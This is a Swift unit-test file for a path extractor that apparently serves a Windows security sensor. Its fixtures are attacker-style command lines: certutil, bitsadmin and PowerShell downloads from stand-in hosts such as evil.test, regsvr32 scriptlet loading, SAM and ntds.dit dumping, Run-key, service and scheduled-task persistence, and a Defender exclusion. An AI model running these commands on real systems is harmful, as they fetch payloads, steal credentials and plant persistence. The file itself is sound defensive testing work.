import Evidence
import Testing

/// Command lines as sensors record them on Windows, with the files they name.
struct WindowsCommandLineTests {
  private static func files(_ commandLine: String) -> [String] {
    NamedFiles.paths(commandLine: commandLine, arguments: [], isWindows: true)
  }

  static let systemPrograms: [(String, [String])] = [
    (
      #"C:\Windows\System32\wuauclt.exe /UpdateDeploymentProvider C:\Users\a\x.dll /RunHandlerComServer"#,
      [#"C:\Users\a\x.dll"#]
    ),
    (
      #""C:\Windows\system32\wuauclt.exe" /UpdateDeploymentProvider "C:\Users\a b\x.dll" /RunHandlerComServer"#,
      [#"C:\Users\a b\x.dll"#]
    ),
    (#"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"#, []),
    (#"rundll32.exe C:\ProgramData\evil.dll,Run"#, [#"C:\ProgramData\evil.dll"#]),
    (#"rundll32.exe C:\ProgramData\evil.dll,#1"#, [#"C:\ProgramData\evil.dll"#]),
    (#"rundll32.exe C:\ProgramData\evil.dll Run"#, [#"C:\ProgramData\evil.dll"#]),
    (#"rundll32 "C:\Program Files\My App\a.dll",Entry arg"#, [#"C:\Program Files\My App\a.dll"#]),
    (#"rundll32 "C:\Users\a b\pic.jpg,DllMain""#, [#"C:\Users\a b\pic.jpg"#]),
    (#"rundll32 C:\Users\Public\payload,Start"#, [#"C:\Users\Public\payload"#]),
    (#"rundll32.exe shell32.dll,Control_RunDLL C:\Users\a\evil.cpl"#, [#"C:\Users\a\evil.cpl"#]),
    (#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write()"#, []),
    (#"rundll32.exe \\10.0.0.5\share\a.dll,Run"#, [#"\\10.0.0.5\share\a.dll"#]),
    (#"rundll32.exe C:\Windows\Temp\note.txt:evil.dll,Run"#, [#"C:\Windows\Temp\note.txt"#]),
    (#"rundll32.exe \\?\C:\ProgramData\a.dll,Run"#, [#"\\?\C:\ProgramData\a.dll"#]),
    (#"regsvr32 /s C:\Users\a\AppData\x.ocx"#, [#"C:\Users\a\AppData\x.ocx"#]),
    (#"regsvr32.exe /s /n /u /i:http://evil.test/x.sct scrobj.dll"#, []),
    (#"regsvr32.exe /s /n /u /i:https://evil.test/C:/x.sct scrobj.dll"#, []),
    (#"regsvr32.exe /s /n /i:C:\Temp\x.sct scrobj.dll"#, [#"C:\Temp\x.sct"#]),
    (#"regsvr32.exe /s /n "/i:C:\My Files\x.sct" scrobj.dll"#, [#"C:\My Files\x.sct"#]),
    (#"regsvr32.exe /s /n /i:\\srv\share\x.sct scrobj.dll"#, [#"\\srv\share\x.sct"#]),
    (#"msiexec /i C:\Users\a\setup.msi /qn"#, [#"C:\Users\a\setup.msi"#]),
    (#"msiexec.exe /iC:\Users\a\setup.msi /quiet"#, [#"C:\Users\a\setup.msi"#]),
    (#"msiexec /q /i http://evil.test/a.msi"#, []),
    (
      #"msiexec.exe /i "C:\a b\setup.msi" TRANSFORMS="C:\a b\t.mst" /L*v "C:\logs\x.log""#,
      [#"C:\a b\setup.msi"#, #"C:\a b\t.mst"#, #"C:\logs\x.log"#]
    ),
    (#"msiexec /x {90160000-008C-0000-1000-0000000FF1CE} /qn"#, []),
    (#"mshta.exe C:\Users\a\x.hta"#, [#"C:\Users\a\x.hta"#]),
    (#"mshta file:///C:/Users/a/x.hta"#, ["C:/Users/a/x.hta"]),
    (
      #"mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""C:\x\a.exe"":close")"#, [#"C:\x\a.exe"#]
    ),
    (#"wscript.exe //E:jscript C:\Users\a\x.txt"#, [#"C:\Users\a\x.txt"#]),
    (#"cscript //nologo "%APPDATA%\x.vbs" arg"#, [#"%APPDATA%\x.vbs"#]),
    (
      #"certutil -urlcache -split -f http://evil.test/a.exe C:\Users\Public\a.exe"#,
      [#"C:\Users\Public\a.exe"#]
    ),
    (#"certutil.exe -decode C:\Temp\a.b64 C:\Temp\a.exe"#, [#"C:\Temp\a.b64"#, #"C:\Temp\a.exe"#]),
    (
      #"bitsadmin /transfer j /download /priority high http://h.test/a.exe C:\Temp\a.exe"#,
      [#"C:\Temp\a.exe"#]
    ),
    (#"InstallUtil.exe /logfile= /LogToConsole=false /U C:\Temp\a.dll"#, [#"C:\Temp\a.dll"#]),
    (#"MSBuild.exe C:\Temp\a.csproj /p:Out=C:\Temp\out.dll"#, [#"C:\Temp\a.csproj"#, #"C:\Temp\out.dll"#]),
    (#"csc.exe /target:library /out:C:\Temp\a.dll C:\Temp\a.cs"#, [#"C:\Temp\a.dll"#, #"C:\Temp\a.cs"#]),
    (#"odbcconf /S /A {REGSVR "C:\Temp\a.dll"}"#, [#"C:\Temp\a.dll"#]),
    (#"odbcconf.exe /S /A {REGSVR C:\Temp\a.dll}"#, [#"C:\Temp\a.dll"#]),
    (#"schtasks /create /tn Updater /tr "C:\Users\a\u.exe -s" /sc onlogon"#, [#"C:\Users\a\u.exe"#]),
    (#"schtasks /create /tn U /tr "\"C:\a b\u.exe\" -s" /sc onlogon"#, [#"C:\a b\u.exe"#]),
    (
      #"sc.exe create evil binPath= "C:\Users\Public\evil.exe -k" start= auto"#,
      [#"C:\Users\Public\evil.exe"#]
    ),
    (#"sc create drv type= kernel binPath= \??\C:\Temp\drv.sys"#, [#"\??\C:\Temp\drv.sys"#]),
    (
      #"reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v x /d C:\Temp\a.exe /f"#,
      [#"C:\Temp\a.exe"#]
    ),
    (#"reg.exe save HKLM\SAM C:\Temp\sam.save"#, [#"C:\Temp\sam.save"#]),
    (#"wmic process call create "C:\Temp\a.exe""#, [#"C:\Temp\a.exe"#]),
    (
      #"wmic /node:host process call create "cmd /c C:\Temp\a.bat > C:\Temp\o.txt""#,
      [#"C:\Temp\a.bat"#, #"C:\Temp\o.txt"#]
    ),
    (#"control.exe C:\Users\a\evil.cpl,,1"#, [#"C:\Users\a\evil.cpl"#]),
    (
      #"esentutl.exe /y C:\Windows\NTDS\ntds.dit /d C:\Temp\n.dit /o"#,
      [#"C:\Windows\NTDS\ntds.dit"#, #"C:\Temp\n.dit"#]
    ),
    (#"makecab \\srv\c$\a.exe C:\Temp\a.cab"#, [#"\\srv\c$\a.exe"#, #"C:\Temp\a.cab"#]),
    (#"explorer.exe /e,C:\Users\a\x.lnk"#, [#"C:\Users\a\x.lnk"#]),
    (#"net use Z: \\10.0.0.5\share"#, []),
    (#"netsh trace start capture=yes tracefile=C:\Temp\t.etl"#, [#"C:\Temp\t.etl"#]),
  ]

  static let shells: [(String, [String])] = [
    (#"cmd.exe /c C:\Temp\a.bat"#, [#"C:\Temp\a.bat"#]),
    (#"cmd /c "C:\a.exe C:\b.dll""#, [#"C:\a.exe"#, #"C:\b.dll"#]),
    (
      #"cmd.exe /c ""C:\Program Files\a.exe" "C:\x y\b.txt"""#,
      [#"C:\Program Files\a.exe"#, #"C:\x y\b.txt"#]
    ),
    (#"C:\Windows\system32\cmd.exe /S /D /c"C:\Temp\a.cmd""#, [#"C:\Temp\a.cmd"#]),
    (#"cmd /c copy C:\a.txt D:\b.txt&&del C:\c.txt"#, [#"C:\a.txt"#, #"D:\b.txt"#, #"C:\c.txt"#]),
    (#"cmd /c type C:\a.txt>C:\b.txt"#, [#"C:\a.txt"#, #"C:\b.txt"#]),
    (#"cmd /c copy /b C:\a.bin+C:\b.bin C:\c.bin"#, [#"C:\a.bin"#, #"C:\b.bin"#, #"C:\c.bin"#]),
    (#"cmd /c del C:\Temp\*.log"#, []),
    (#"cmd /c del C:\Temp\a?.log C:\x.log"#, [#"C:\x.log"#]),
    (#"cmd /c C:\Wind^ows\Te^mp\a.exe"#, [#"C:\Windows\Temp\a.exe"#]),
    (#"cmd /c C:\"Program Files"\App\a.exe -x"#, [#"C:\Program Files\App\a.exe"#]),
    (#"cmd /c start /min "" "C:\Users\a b\x.exe""#, [#"C:\Users\a b\x.exe"#]),
    (#"cmd /c echo x > \\.\pipe\evil.pipe"#, []),
    (#"cmd /c type \\.\C:\secret.txt"#, [#"\\.\C:\secret.txt"#]),
    (#"cmd /c for /f %i in (C:\list.txt) do echo %i"#, [#"C:\list.txt"#]),
    (#"%COMSPEC% /c %TEMP%\a.bat"#, [#"%TEMP%\a.bat"#]),
    (#"cmd /c %ProgramFiles(x86)%\App\a.exe"#, [#"%ProgramFiles(x86)%\App\a.exe"#]),
    (#"cmd /c set P=C:\a.exe&call C:\b.bat"#, [#"C:\a.exe"#, #"C:\b.bat"#]),
    (#"powershell.exe -ExecutionPolicy Bypass -File C:\Users\a\x.ps1 -Arg 1"#, [#"C:\Users\a\x.ps1"#]),
    (#"powershell -nop -f "C:\Users\a b\x.ps1""#, [#"C:\Users\a b\x.ps1"#]),
    (
      #"powershell -c "& 'C:\Users\a b\x.ps1' -Go; Start-Process C:\t.exe""#,
      [#"C:\Users\a b\x.ps1"#, #"C:\t.exe"#]
    ),
    (
      #"powershell IEX (New-Object Net.WebClient).DownloadFile('http://h.test/a.exe','C:\Users\Public\a.exe')"#,
      [#"C:\Users\Public\a.exe"#]
    ),
    (#"powershell -c "[Reflection.Assembly]::LoadFile(\"C:\T\a.dll\")""#, [#"C:\T\a.dll"#]),
    (
      #"powershell Start-Process $env:TEMP\a.exe; . ${env:ProgramData}\b.ps1"#,
      [#"%TEMP%\a.exe"#, #"%ProgramData%\b.ps1"#]
    ),
    (#"powershell -c gc C:\a.txt | sc C:\b.txt"#, [#"C:\a.txt"#, #"C:\b.txt"#]),
    (#"powershell -enc SQBFAFgA"#, []),
    (#"pwsh -c "iwr https://h.test/?f=C:\x.exe -OutFile C:\y.exe""#, [#"C:\y.exe"#]),
    (#"powershell Add-MpPreference -ExclusionPath C:\Users\a.b"#, [#"C:\Users\a.b"#]),
  ]

  static let spellings: [(String, [String])] = [
    (#"notepad C:\Program Files\My App\read me.txt"#, [#"C:\Program Files\My App\read me.txt"#]),
    (#"notepad C:\Program Files (x86)\App\x.txt /p"#, [#"C:\Program Files (x86)\App\x.txt"#]),
    (#"app C:\Users\john.doe smith\x.exe -k"#, [#"C:\Users\john.doe smith\x.exe"#]),
    (#"C:\Program Files\App\app.exe -c C:\x.cfg"#, [#"C:\x.cfg"#]),
    (#"C:\Program Files\App\run -c C:\x.cfg"#, [#"C:\x.cfg"#]),
    (#"C:\PROGRA~1\APP\APP~1.EXE C:\DOCUME~1\X~1.TXT"#, [#"C:\DOCUME~1\X~1.TXT"#]),
    (#"dir C:\Windows foo.txt"#, []),
    (#"app "C:\dir\" "C:\x\y.txt""#, [#"C:\x\y.txt"#]),
    (#"app "C:\dir.d\\" x"#, []),
    (#"java -cp C:\a.jar;C:\b.jar;C:\lib\* Main"#, [#"C:\a.jar"#, #"C:\b.jar"#]),
    (#"java "-javaagent:C:\a b\x.jar=y" -jar "C:\a b\m.jar""#, [#"C:\a b\x.jar"#, #"C:\a b\m.jar"#]),
    (#"7z a -oC:\out\a.zip C:\in\b.txt -pSecret"#, [#"C:\out\a.zip"#, #"C:\in\b.txt"#]),
    (#"app "--file=C:\My doc.txt" "-x:a"C:\b.txt"#, [#"C:\My doc.txt"#, #"C:\b.txt"#]),
    (#"app @C:\resp.rsp '--x=C:\y.txt'"#, [#"C:\resp.rsp"#, #"C:\y.txt"#]),
    (#"app C:\a,b.txt"#, [#"C:\a,b.txt"#]),
    (#"app C:\a.txt,C:\b.txt"#, [#"C:\a.txt"#, #"C:\b.txt"#]),
    (#"app C:\x.exe. C:\x.exe"#, [#"C:\x.exe"#]),
    (#"app C:\X.exe c:\x.EXE"#, [#"C:\X.exe"#]),
    (#"app C:/Users/a/x.ps1 c://y.txt"#, ["C:/Users/a/x.ps1"]),
    (#"app \\?\UNC\srv\share\a.exe"#, [#"\\?\UNC\srv\share\a.exe"#]),
    (#"app \SystemRoot\System32\drivers\a.sys"#, [#"\SystemRoot\System32\drivers\a.sys"#]),
    (#"app \Device\HarddiskVolume3\Windows\a.exe"#, [#"\Device\HarddiskVolume3\Windows\a.exe"#]),
    (
      #"app C:\Users\Jürgen\日本.exe C:\Users\O'Brien\x.txt"#,
      [#"C:\Users\Jürgen\日本.exe"#, #"C:\Users\O'Brien\x.txt"#]
    ),
    (#"app C:\..\..\Windows\.\x.dll C:\.. C:\."#, [#"C:\..\..\Windows\.\x.dll"#]),
    (#"app x.dll ..\y.dll dir\z.dll C:rel.txt abC:\no.txt"#, []),
    (#"app https://h.test/C:\x.txt ftp://C:\y.txt"#, []),
    (#"C:\Windows\notepad.exe"#, []), ("", []), ("   ", []), ("\"", []), (#""C:\a b.exe"#, []),
    (#"app "C:\unclosed path\x.txt"#, [#"C:\unclosed path\x.txt"#]),
    (#"app C:\.gitignore C:\x.tar.gz"#, [#"C:\.gitignore"#, #"C:\x.tar.gz"#]),
  ]

  @Test(arguments: systemPrograms + shells + spellings)
  func `names the files of a command line`(commandLine: String, files: [String]) {
    #expect(Self.files(commandLine) == files)
  }

  @Test(arguments: [
    (["rundll32.exe", #"C:\Program Files\a b\x.dll,Run"#], [#"C:\Program Files\a b\x.dll"#]),
    (["cmd", "/c", #"C:\a.exe C:\b.dll"#], [#"C:\a.exe"#, #"C:\b.dll"#]),
    (["app", #"/i:C:\a b\x.msi"#, "-q"], [#"C:\a b\x.msi"#]),
    ([#"C:\a.exe"#], []), ([], []), (["app", "", " ", #"C:\"#], []),
  ])
  func `takes arguments where there is no command line`(arguments: [String], files: [String]) {
    #expect(NamedFiles.paths(commandLine: nil, arguments: arguments, isWindows: true) == files)
  }

  @Test func `the command line counts more than its split form`() {
    let files = NamedFiles.paths(
      commandLine: #"app "C:\a b.txt""#, arguments: ["app", #"C:\a"#, "b.txt"], isWindows: true)
    #expect(files == [#"C:\a b.txt"#])
  }

  @Test func `takes so many paths and no more`() {
    let names = (0..<100).map { #"C:\f\#($0).txt"# }
    let files = Self.files("app " + names.joined(separator: " "))
    #expect(files == Array(names.prefix(NamedFiles.limit)))
  }

  @Test func `reads so far and no further`() {
    let padding = String(repeating: "x", count: NamedFiles.longestCommandLine)
    #expect(Self.files("app C:\\a.txt \(padding) C:\\b.txt") == [#"C:\a.txt"#])
    #expect(Self.files("app C:\\" + padding + ".txt") == [])
  }
}
